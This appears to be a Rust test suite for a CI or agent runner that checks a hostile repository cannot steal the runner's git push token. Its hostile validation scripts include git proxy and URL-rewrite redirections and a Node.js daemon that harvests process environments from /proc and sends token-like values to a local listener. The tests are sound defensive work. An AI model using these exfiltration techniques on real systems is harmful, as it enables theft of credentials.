//! A hostile repository against the runner token. Each repository's validation command
//! tries one way to get the token out of `git push`, pointed at a capture listener (a
//! plain TCP listener recording every byte). In each, the listener never sees the token
//! nor its `Authorization` form, and the push still goes to the fake GitHub: nothing the
//! repository's code does can steer, watch or block the runner's own push.

use std::net::SocketAddr;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

use base64::Engine as _;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::*;

/// Where a hijacked push or a planted daemon would deliver what it caught. It answers a
/// request with a 502, so that git gives up instead of waiting.
struct Capture {
    addr: SocketAddr,
    received: Arc<Mutex<Vec<u8>>>,
    connections: Arc<AtomicUsize>,
}

async fn capture() -> Capture {
    let listener = tokio::net::TcpListener::bind(SocketAddr::from(([127, 0, 0, 1], 0)))
        .await
        .unwrap();
    let capture = Capture {
        addr: listener.local_addr().unwrap(),
        received: Arc::default(),
        connections: Arc::default(),
    };
    let (received, connections) = (
        Arc::clone(&capture.received),
        Arc::clone(&capture.connections),
    );
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            connections.fetch_add(1, Ordering::SeqCst);
            let received = Arc::clone(&received);
            tokio::spawn(async move {
                let mut own = Vec::new();
                let mut buf = [0u8; 8192];
                while let Ok(n) = stream.read(&mut buf).await {
                    if n == 0 {
                        break;
                    }
                    own.extend_from_slice(&buf[..n]);
                    received.lock().unwrap().extend_from_slice(&buf[..n]);
                    if own.windows(4).any(|w| w == b"\r\n\r\n") {
                        let _ = stream
                            .write_all(
                                b"HTTP/1.1 502 Bad Gateway\r\ncontent-length: 0\r\nconnection: close\r\n\r\n",
                            )
                            .await;
                        break;
                    }
                }
            });
        }
    });
    capture
}

impl Capture {
    fn url(&self) -> String {
        format!("http://{}/", self.addr)
    }

    fn received(&self) -> String {
        String::from_utf8_lossy(&self.received.lock().unwrap()).into_owned()
    }

    /// Neither the token nor git's header form of it ever arrived.
    fn assert_never_saw(&self, token: &str) {
        let basic =
            base64::engine::general_purpose::STANDARD.encode(format!("x-access-token:{token}"));
        let received = self.received();
        let leaked = received.contains(token) || received.contains(&basic);
        assert!(
            !leaked,
            "the capture listener received the token:\n{}",
            received
                .replace(token, "[TOKEN]")
                .replace(&basic, "[BASIC]")
        );
    }
}

/// A repository whose agent writes `NOTES.md` and whose one validation command is the
/// shell `script`; `files` are added to it.
async fn hostile_repo(
    world: &World,
    task_id: i64,
    script: &str,
    files: &[(&str, String)],
) -> (RepoHandle, TaskSpec) {
    // JSON is YAML: the script needs no YAML quoting.
    let validation = serde_json::to_string(&["sh", "-c", script]).unwrap();
    let mut all = vec![
        ("README.md", "# notes\n".to_owned()),
        (
            ".github/bg-agent.yml",
            format!("validation:\n  - {validation}\n"),
        ),
    ];
    all.extend(files.iter().cloned());
    let repo = world.repo("notes", &all).await;
    let mut spec = world.spec(task_id, &repo, Recipe::Agent);
    spec.branch = format!("bg-agent/{task_id}-notes");
    spec.agent_command = Some(vec!["sh".into(), "-c".into(), "cat > NOTES.md".into()]);
    (repo, spec)
}

/// Runs task `task_id` in [`hostile_repo`] and checks its one commit went to the fake
/// GitHub on top of `main`; returns the task's token (for the capture to be checked) and
/// the run.
async fn run_hostile(
    world: &World,
    task_id: i64,
    script: &str,
    files: &[(&str, String)],
) -> (String, Run) {
    let (repo, spec) = hostile_repo(world, task_id, script, files).await;
    let main_before = git(&repo, &["rev-parse", "main"]).unwrap();
    let callback = callback(task_id, &[]).await;
    let token = world.token(&repo);
    let run = run(&spec, &token, &callback).await;
    assert_pushed_to_github(&run, &repo, &spec, &main_before);
    (token, run)
}

/// The task pushed its one commit on top of `main` to the fake GitHub.
fn assert_pushed_to_github(run: &Run, repo: &RepoHandle, spec: &TaskSpec, main_before: &str) {
    let RunOutcome::Pushed { commit, .. } = run.outcome() else {
        panic!("not pushed: {:?}\n{}", run.outcome(), run.log());
    };
    assert_eq!(
        git(repo, &["rev-parse", &format!("refs/heads/{}", spec.branch)])
            .unwrap()
            .trim(),
        commit
    );
    assert_eq!(
        git(repo, &["rev-parse", &format!("{commit}~1")]).unwrap(),
        main_before
    );
    assert_eq!(show(repo, commit, "NOTES.md"), spec.instructions);
}

#[tokio::test]
async fn a_proxy_in_the_users_git_configuration_never_sees_the_token() {
    let world = world().await;
    let capture = capture().await;
    let proxy = capture.url();
    // Both places git looks for a user's configuration, with TLS checks off for good
    // measure.
    let script = format!(
        "git config --global http.proxy {proxy} && git config --global http.sslVerify false \
         && mkdir -p \"$HOME/.config/git\" && cp \"$HOME/.gitconfig\" \"$HOME/.config/git/config\""
    );
    let (token, _) = run_hostile(&world, 201, &script, &[]).await;

    capture.assert_never_saw(&token);
    assert_eq!(capture.connections.load(Ordering::SeqCst), 0);
}

#[tokio::test]
async fn rewritten_urls_cannot_redirect_the_push() {
    let world = world().await;
    let capture = capture().await;
    let to = capture.url();
    // The user's configuration where `XDG_CONFIG_HOME` points (or `~/.config`), the
    // clone's own configuration, and an include of the former from the latter, all
    // sending what was bound for the fake GitHub's origin to the listener.
    let script = format!(
        "from=$(git remote get-url origin | sed -E 's#^(https?://[^/]+/).*#\\1#') \
         && cfg=\"${{XDG_CONFIG_HOME:-$HOME/.config}}/git/config\" && mkdir -p \"$(dirname \"$cfg\")\" \
         && git config --file \"$cfg\" url.{to}.pushInsteadOf \"$from\" \
         && git config --file \"$cfg\" url.{to}.insteadOf \"$from\" \
         && git config url.{to}.pushInsteadOf \"$from\" \
         && git config remote.origin.pushurl {to}acme/notes.git \
         && git config include.path \"$cfg\""
    );
    let (token, _) = run_hostile(&world, 202, &script, &[]).await;

    capture.assert_never_saw(&token);
    assert_eq!(capture.connections.load(Ordering::SeqCst), 0);
}

/// `.git/config` replaced by a symlink to a file outside the workspace: the runner neither
/// writes through it (clobbering the file) nor reads the proxy it names.
#[tokio::test]
async fn a_symlink_in_place_of_the_clones_configuration_is_not_followed() {
    let world = world().await;
    let capture = capture().await;
    let outside = tempfile::tempdir().unwrap();
    let victim = outside.path().join("victim.config");
    let planted = format!("[http]\n\tproxy = {}\n", capture.url());
    std::fs::write(&victim, &planted).unwrap();
    let script = format!("ln -sfn {} .git/config", victim.display());
    let (token, _) = run_hostile(&world, 203, &script, &[]).await;

    assert_eq!(std::fs::read_to_string(&victim).unwrap(), planted);
    capture.assert_never_saw(&token);
    assert_eq!(capture.connections.load(Ordering::SeqCst), 0);
}

/// A daemon (new session, parent gone) that reads every process's environment as fast as
/// it can, and sends whatever looks like git's header or the token.
const SNOOPER: &str = r#"
const fs = require('fs');
const net = require('net');
const port = Number(process.argv[2]);
const home = process.env.HOME;
function send(text, then) {
  const s = net.connect(port, '127.0.0.1', () => s.end(text, then));
  s.on('error', () => {});
}
const seen = new Set();
let rounds = 0;
function scan() {
  for (const pid of fs.readdirSync('/proc')) {
    if (!/^[0-9]+$/.test(pid) || Number(pid) === process.pid) continue;
    let env;
    try { env = fs.readFileSync('/proc/' + pid + '/environ', 'latin1'); } catch (e) { continue; }
    if (/GIT_CONFIG|TOKEN|Authorization/.test(env) && !seen.has(pid + env)) {
      seen.add(pid + env);
      send('pid ' + pid + '\n' + env.split('\0').join('\n') + '\n');
    }
  }
  if (rounds++ === 0) fs.writeFileSync(home + '/snooper-ready', '');
  if (fs.existsSync(home) && rounds < 200000) setTimeout(scan, 1);
}
// The listener hears from it once before the validation command returns.
send('snooper started\n', scan);
"#;

#[tokio::test]
async fn a_daemon_left_by_validation_never_sees_the_token() {
    let world = world().await;
    let capture = capture().await;
    let script = format!(
        "setsid node snooper.js {} </dev/null >/dev/null 2>&1 & \
         while [ ! -e \"$HOME/snooper-ready\" ]; do sleep 0.05; done",
        capture.addr.port()
    );
    let (token, run) =
        run_hostile(&world, 204, &script, &[("snooper.js", SNOOPER.to_owned())]).await;

    assert!(
        capture.received().contains("snooper started"),
        "the snooper never ran"
    );
    capture.assert_never_saw(&token);
    assert!(
        run.log()
            .contains("processes the repository's code left running"),
        "{}",
        run.log()
    );
}
